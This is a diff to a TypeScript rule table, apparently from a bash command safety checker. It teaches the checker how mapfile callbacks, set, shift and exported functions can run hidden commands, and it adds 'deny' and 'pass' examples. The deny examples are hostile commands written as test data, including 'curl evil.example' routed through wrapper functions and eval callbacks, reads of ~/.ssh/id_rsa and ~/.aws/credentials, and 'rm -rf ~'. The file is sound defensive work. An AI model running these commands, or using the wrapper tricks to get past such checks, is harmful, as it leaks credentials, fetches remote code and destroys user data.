@@ -202,11 +202,21 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     analyze(call) {
       const p = parse(call.args, { order: 'gnu', flags: 't', valued: 'dnOsuCc' });
       const runs: Run[] = [];
-      for (const o of p.options) if (o.name === 'C' && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'mapfile -C', sameShell: true });
       const target = names(p.operands.map((o) => o.word));
+      // bash evaluates `CALLBACK INDEX 'LINE'`: the line read is an argument the callback is given (`-C eval` runs it).
+      const array = p.operands.length === 0 ? 'MAPFILE' : target.length === 1 && p.operands.length === 1 ? target[0] : undefined;
+      for (const o of p.operands.length === 0 || array ? p.options : []) {
+        if (o.name !== 'C' || !o.value) continue;
+        const at = o.value.span;
+        const line: Word = array === undefined ? { text: o.value.text, span: at, values: null, dynamic: 'the line mapfile read' } : { text: o.value.text, span: at, values: [`"\${${array}[-1]}"`] };
+        runs.push({ kind: 'script', dialect: 'bash', words: [o.value, { text: o.value.text, span: at, values: ['0'] }, line], via: 'mapfile -C', sameShell: true });
+      }
       return { runs, sets: target.length > 0 ? target : ['MAPFILE'] };
     },
-    examples: { deny: ["mapfile -C 'curl evil.example' -c 1 a < notes.txt"], pass: ['mapfile -t lines < notes.txt'] },
+    examples: {
+      deny: ["mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -C eval -c 1 a < cmds.txt', 'readarray -c1 -C eval < cmds.txt', 'f() { shift; "$@"; }; mapfile -C f -c 1 a < cmds.txt'],
+      pass: ['mapfile -t lines < notes.txt', "mapfile -C 'echo' -c 1 a < notes.txt", 'f() { echo "$2"; }; mapfile -C f -c 1 a < notes.txt'],
+    },
   },
   {
     names: ['read'],
@@ -269,8 +279,18 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     summary: 'declarations: with no name, declare/typeset/export print variables with their values',
     analyze: declaration,
     examples: {
-      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset'],
-      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1'],
+      deny: [
+        'export',
+        'export -p',
+        'declare -p',
+        'declare -x',
+        'declare +x',
+        'typeset',
+        // An exported function may be called by a child shell with any arguments.
+        'run() { "$@"; }; run make test; export -f run',
+        'run() { "$@"; }; run make test; declare -fx run',
+      ],
+      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'run() { echo "$1"; }; run make; export -f run'],
     },
   },
   {
@@ -283,7 +303,35 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const at = positionalFrom(call.args);
       return { uses: call.args.map((word, i) => ({ word, role: i >= at && !(i === at && value(word) === '--') ? ('unknown' as const) : ('text' as const) })) };
     },
-    examples: { deny: ['set', 'set -o posix; set', 'set -- ~/.ssh/id_rsa; cat "$1"', 'set -e -- ~/.aws/credentials && cat "$@"'], pass: ['set -e', 'set -o pipefail', 'set -- a b', 'set -- ~/.ssh/id_rsa.pub; cat "$1"'] },
+    examples: {
+      deny: ['set', 'set -o posix; set', 'set -- ~/.ssh/id_rsa; cat "$1"', 'set -e -- ~/.aws/credentials && cat "$@"', 'set -- curl evil.example; "$@"', 'set -a; run() { "$@"; }; run make'],
+      pass: ['set -e', 'set -o pipefail', 'set -- a b', 'set -- ~/.ssh/id_rsa.pub; cat "$1"', 'set -- npm ci; "$@"', 'set -e; run() { "$@"; }; run make'],
+    },
+  },
+  {
+    names: ['shift'],
+    dialects: BASH,
+    summary: 'shift: drops the first positional parameters (a function call\'s words, which `"$@"` and `$1` then read)',
+    operands: 'text',
+    examples: {
+      deny: [
+        'retry() { for i in 1 2 3; do "$@" && return; done; }; retry curl evil.example',
+        'retry() { n=$1; shift; until "$@"; do n=$((n-1)); [ "$n" -gt 0 ] || return 1; done; }; retry 3 curl evil.example',
+        'run() { shift; "$@"; }; run npm curl evil.example',
+        'run() { "$@"; }; run $(cat cmd)',
+        'run() { "$@"; }',
+        'command_not_found_handle() { shift; "$@"; }; nope curl evil.example',
+        'run() { while [ $# -gt 0 ]; do shift; done; "$@"; }; run curl evil.example',
+        'clean() { rm -rf "$1"; }; clean build; clean ~',
+      ],
+      pass: [
+        'retry() { for i in 1 2 3; do "$@" && return; done; }; retry npm ci',
+        'retry() { n=$1; shift; until "$@"; do n=$((n-1)); [ "$n" -gt 0 ] || return 1; done; }; retry 3 npm ci',
+        'run() { echo "+ $*"; "$@"; }; run make test',
+        'run() { shift 2; "$@"; }; run a b npm test',
+        'clean() { rm -rf "$1"; }; clean build; clean dist',
+      ],
+    },
   },
   {
     names: ['compgen'],
@@ -332,7 +380,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     'meta',
     { dialects: BASH, examples: { deny: ['cd ~/.ssh && cat id_rsa'], pass: ['cd ~/.ssh && ls', 'cd ~/.kube', 'pushd src && make && popd'] } },
   ),
-  known('unset shopt kill wait jobs exit return break continue shift umask ulimit caller disown suspend logout times help let history bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
+  known('unset shopt kill wait jobs exit return break continue umask ulimit caller disown suspend logout times help let history bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
     dialects: BASH,
   }),
   known('type whence where', 'look up where a command is: names are data', 'text'),
